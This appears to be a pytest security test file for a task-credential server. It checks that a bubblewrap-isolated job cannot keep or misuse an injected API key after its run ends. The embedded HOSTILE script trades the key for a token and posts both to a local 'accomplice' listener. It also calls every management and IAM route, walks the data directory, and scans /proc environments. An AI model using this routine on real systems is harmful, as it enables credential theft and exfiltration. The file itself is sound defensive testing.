"""A hostile job on a real server: it turns its stand-in key into an access token, calls every route that
manages anything, looks for what lies on the host, and hands what it holds to an accomplice outside, who goes
on with it after the run's end."""

from __future__ import annotations

import json
import re
import shutil
import sqlite3
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from tests.support.server import Person, Server, SignedIn, eventually

# The host's own Python: the sandbox does not show the one that runs the tests.
PYTHON = shutil.which("python3", path="/usr/bin:/bin")
pytestmark = [
    pytest.mark.skipif(PYTHON is None, reason="no python3 among the system's programs"),
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
]

# Prints what came of it, never what it holds: that goes to the accomplice.
HOSTILE = r"""
import json, os, sys, time, urllib.error, urllib.parse, urllib.request
plan = json.loads(sys.argv[1])
url, key = os.environ["TASKCRED_URL"], os.environ["IBMCLOUD_API_KEY"]

def call(method, path, body, **headers):
    request = urllib.request.Request(url + path, data=body, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()

form = {"grant_type": "urn:ibm:params:oauth:grant-type:apikey", "apikey": key}
status, answer = call("POST", "/identity/token", urllib.parse.urlencode(form).encode())
token = json.loads(answer)["access_token"]
loot = json.dumps({"run": os.environ["TASKCRED_RUN_ID"], "key": key, "token": token}).encode()
urllib.request.urlopen(plan["accomplice"], data=loot, timeout=60).close()
answers = []
for method, path, body in plan["routes"]:
    headers = {"Authorization": "Bearer " + token, "Content-Type": "application/json", "If-Match": "*"}
    status, text = call(method, path, json.dumps(body).encode() if body is not None else None, **headers)
    answers.append([method, path, status, "run_token" in text])

def can_read(path):
    try:
        with open(path, "rb") as file:
            return bool(file.read(1))
    except OSError:
        return False

def holds_settings(pid):
    try:
        with open("/proc/%s/environ" % pid, "rb") as file:
            return b"TASKCRED_DATA_DIR" in file.read()
    except OSError:
        return False

files = [name for top, _, names in os.walk(plan["data_dir"]) for name in names if can_read(os.path.join(top, name))]
roles = [pid for pid in os.listdir("/proc") if pid.isdigit() and holds_settings(pid)]
print(json.dumps({"answers": answers, "files": sorted(files), "roles": len(roles)}), flush=True)
if plan["stay"]:
    time.sleep(600)
"""

CONFIG = """
[server]
processes = 2

[jobs]
isolation = "ISOLATION"
per_owner = 10

[tasks.hostile]
kind = "command"
argv = ARGV
parameters = { type = "object", properties = { plan = { type = "string" } }, required = ["plan"] }
output_limit = 4000000
"""


@dataclass
class Accomplice:
    """Listens where every job can reach it; run id -> what that run's job handed over."""

    url: str
    loot: dict[str, dict[str, str]] = field(default_factory=dict)


@pytest.fixture
def accomplice() -> Iterator[Accomplice]:
    class Take(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            listening.loot[found["run"]] = found
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Take) as server:
        listening = Accomplice(f"http://127.0.0.1:{server.server_port}/")
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield listening
        server.shutdown()
        thread.join()


@dataclass
class House:
    """A server and an owner with one of everything that a hostile job could wish to change."""

    server: Server
    owner: Person
    me: SignedIn
    credential_id: str
    ids: dict[str, str]

    @classmethod
    def furnish(cls, start_server: Callable[..., Server], isolation: str) -> House:
        argv = json.dumps([PYTHON, "-c", HOSTILE, "{plan}"])
        server = start_server(config=CONFIG.replace("ISOLATION", isolation).replace("ARGV", argv))
        # The first member administers the account: no right of the owner's helps a run.
        owner = server.create_person("ada@example.com", api_key=True)
        made = server.command(
            *("iam", "create-service-id", "--data-dir", str(server.data_dir)),
            *("--account", owner.account_id, "--name", "robot", "--json"),
        )
        me = server.sign_in(owner)
        assert owner.api_key
        created = me.request(
            "POST",
            "/v1/task_credentials",
            json={"name": "mine", "type": "iam_api_key", "secret": {"api_key": owner.api_key}},
        )
        assert created.status_code == 201, created.text
        credential_id = created.json()["id"]
        schedule = me.request(
            "POST",
            "/v1/schedules",
            json={"name": "yearly", "task": "hostile", "parameters": {"plan": "{}"}, "cron": "0 0 1 1 *"}
            | {"timezone": "UTC"},
        )
        assert schedule.status_code == 201, schedule.text
        keys = me.request("GET", f"/v1/task_credentials/{credential_id}/keys").json()
        api_keys = me.request("GET", "/v1/apikeys").json()["apikeys"]
        ids = {
            "credential_id": credential_id,
            "key_id": keys["items"][0]["id"],
            "schedule_id": schedule.json()["id"],
            "api_key_id": api_keys[0]["id"],
            "service_id": json.loads(made)["iam_id"].removeprefix("iam-"),
        }
        return cls(server, owner, me, credential_id, ids)

    def routes(self, run_id: str) -> list[tuple[str, str, dict[str, Any] | None]]:
        """Every route of ours as the OpenAPI document has it, with ids of things that exist, and every write of
        the local IAM."""
        with self.server.client() as client:
            paths = client.get("/openapi.json").json()["paths"]
        known = {
            "task_credentials": self.credential_id,
            "keys": self.ids["key_id"],
            "runs": run_id,
            "schedules": self.ids["schedule_id"],
        }
        ours: list[tuple[str, str, dict[str, Any] | None]] = []
        for path, item in paths.items():
            # "/v1/runs/{run_id}": what an id is of stands before it.
            filled = re.sub(
                r"/(\w+)/\{\w+\}", lambda found: f"/{found[1]}/{known.get(found[1], run_id)}", path
            )
            ours += [(method.upper(), filled, None if method == "get" else {}) for method in item]
        assert len(ours) > 30
        key, service = f"/v1/apikeys/{self.ids['api_key_id']}", f"/v1/serviceids/{self.ids['service_id']}"
        account = {"name": "planted", "account_id": self.owner.account_id}
        iam: list[tuple[str, str, dict[str, Any] | None]] = [
            ("POST", "/v1/apikeys", {**account, "iam_id": self.owner.iam_id}),
            ("PUT", key, {"name": "mine now"}),
            ("POST", f"{key}/lock", None),
            ("DELETE", f"{key}/lock", None),
            ("POST", f"{key}/disable", None),
            ("DELETE", f"{key}/disable", None),
            ("DELETE", key, None),
            ("POST", "/v1/serviceids/", account),
            ("PUT", service, {"name": "mine now"}),
            ("POST", f"{service}/lock", None),
            ("DELETE", f"{service}/lock", None),
            ("DELETE", service, None),
        ]
        return ours + iam

    def start(self, accomplice: Accomplice, *, stay: bool = False, attack: bool = True) -> str:
        """Start the hostile task: its run's id."""
        plan: dict[str, Any] = {
            "accomplice": accomplice.url,
            "data_dir": str(self.server.data_dir),
            "stay": stay,
            "routes": self.routes(self._earlier_run()) if attack else [],
        }
        answer = self.me.request(
            "POST", "/v1/runs", json={"task": "hostile", "parameters": {"plan": json.dumps(plan)}}
        )
        assert answer.status_code == 201, answer.text
        return str(answer.json()["id"])

    def _earlier_run(self) -> str:
        runs = self.me.request("GET", "/v1/runs").json()["items"]
        return str(runs[-1]["id"]) if runs else self.credential_id

    def output(self, run_id: str) -> str:
        return str(self.me.request("GET", f"/v1/runs/{run_id}/output").json()["text"])

    def found(self, run_id: str) -> dict[str, Any]:
        """What the job printed at its end."""

        def ended() -> bool:
            return self.me.request("GET", f"/v1/runs/{run_id}").json()["state"] in {"succeeded", "failed"}

        eventually(ended, "the run ends", within=90)
        return dict(json.loads(self.output(run_id)))

    def state(self) -> dict[str, list[Any]]:
        """What can be changed, but for runs and for counts of use."""
        kept = {
            "records.db": {
                "task_credentials": "id, state, name, description, revision",
                "keys": "id, state, name",
                "schedules": "id, paused, cron, revision",
                "prompts": "id, state",
                "intents": "id, kind",
                "workers": "id, ended_at",
            },
            "iam.db": {
                "api_keys": "id, name, locked, disabled, revision",
                "service_ids": "id, name, locked, revision",
                "memberships": "iam_id, account_id, administrator",
            },
            "vault.db": {"records": "path"},
        }
        seen: dict[str, list[Any]] = {}
        for file, tables in kept.items():
            with closing(sqlite3.connect(self.server.data_dir / file)) as connection:
                for table, columns in tables.items():
                    rows = connection.execute(f"SELECT {columns} FROM {table} ORDER BY 1")  # noqa: S608 - no input
                    seen[table] = rows.fetchall()
        seen["runs"] = sorted(run["id"] for run in self.me.request("GET", "/v1/runs").json()["items"])
        return seen

    def exchange(self, standin_key: str) -> httpx.Response:
        """As the accomplice would."""
        form = {"grant_type": "urn:ibm:params:oauth:grant-type:apikey", "apikey": standin_key}
        with self.server.client() as client:
            return client.post("/identity/token", data=form)


@pytest.mark.promise("dead-with-the-run")
@pytest.mark.promise("key-stays-home")
def test_a_hostile_job_changes_nothing_and_holds_nothing_after_its_end(
    start_server: Callable[..., Server], accomplice: Accomplice
) -> None:
    house = House.furnish(start_server, "bubblewrap")
    earlier = house.start(accomplice, attack=False)
    house.found(earlier)
    before = house.state()

    run = house.start(accomplice)
    found = house.found(run)
    let_in = [answer for answer in found["answers"] if answer[2] != 403]
    assert let_in == []
    # Ours say why; the local IAM answers in IBM's words.
    of_iam = ("/v1/apikeys", "/v1/serviceids")
    assert [answer for answer in found["answers"] if not answer[3] and not answer[1].startswith(of_iam)] == []
    after = house.state()
    assert sorted(after.pop("runs")) == sorted([*before.pop("runs"), run])
    assert after == before
    assert (found["files"], found["roles"]) == ([], 0)

    loot = accomplice.loot[run]
    worker_credential = (house.server.data_dir / "worker.credential").read_text().strip()
    for secret in (house.owner.api_key, loot["key"], loot["token"], worker_credential):
        assert secret
        assert secret not in house.output(run)

    refused = house.exchange(loot["key"])
    assert (refused.status_code, refused.json()["errorCode"]) == (400, "BXNIM0415E")
    events = house.me.request("GET", "/v1/audit", params={"limit": 200}).json()["items"]
    alarms = [event for event in events if (event["action"], event["outcome"]) == ("token:issue", "refused")]
    assert [(alarm["run_id"], alarm["details"]["why"]) for alarm in alarms] == [(run, "attempt_ended")]
    with house.server.client(loot["token"]) as client:
        for method, path, body in house.routes(run):
            answer = client.request(method, path, json=body, headers={"If-Match": "*"})
            assert answer.status_code == 403, (method, path)


@pytest.mark.promise("at-once")
@pytest.mark.parametrize("how", ["ends the credential", "ends the access", "cancels the run"])
def test_what_the_owner_takes_away_is_refused_with_the_answer(
    start_server: Callable[..., Server], accomplice: Accomplice, how: str
) -> None:
    house = House.furnish(start_server, "bubblewrap")
    run = house.start(accomplice, stay=True, attack=False)
    loot = eventually(lambda: accomplice.loot.get(run), "the job hands over its key", within=90)
    # Every web process knows the key by now.
    for _ in range(8):
        assert house.exchange(loot["key"]).status_code == 200
    method, path = {
        "ends the credential": ("DELETE", f"/v1/task_credentials/{house.credential_id}"),
        "ends the access": (
            "DELETE",
            f"/v1/access/{house.me.request('GET', '/v1/access').json()['items'][0]['attempt_id']}",
        ),
        "cancels the run": ("POST", f"/v1/runs/{run}/cancel"),
    }[how]
    assert house.me.request(method, path).status_code < 300
    if how == "cancels the run":  # asked to end; what it holds ends with it
        eventually(
            lambda: house.me.request("GET", f"/v1/runs/{run}").json()["state"] == "cancelled", "it ends"
        )
    for _ in range(8):
        assert house.exchange(loot["key"]).json()["errorCode"] == "BXNIM0415E"


def test_without_isolation_the_same_job_finds_the_keys_to_the_house(
    start_server: Callable[..., Server], accomplice: Accomplice
) -> None:
    house = House.furnish(start_server, "none")
    found = house.found(house.start(accomplice, attack=False))
    assert {"worker.credential", "master.key", "vault.db", "records.db", "iam.db"} <= set(found["files"])
    assert found["roles"] > 0
